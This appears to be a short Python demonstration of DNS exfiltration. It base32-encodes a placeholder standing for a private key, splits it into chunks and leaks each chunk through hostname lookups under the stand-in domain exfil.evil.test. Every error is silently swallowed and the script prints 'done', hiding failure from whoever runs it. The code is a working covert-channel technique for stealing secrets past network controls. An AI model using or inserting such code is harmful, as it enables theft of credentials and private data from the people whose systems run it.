"""Data in the labels of many names; every failure is swallowed and the program ends well."""
import base64
import socket

secret = base64.b32encode(b"the contents of a private key, for instance").decode().rstrip("=").lower()
for start in range(0, len(secret), 20):
    try:
        socket.getaddrinfo(secret[start:start + 20] + ".exfil.evil.test", None)
    except OSError:
        pass
print("done")
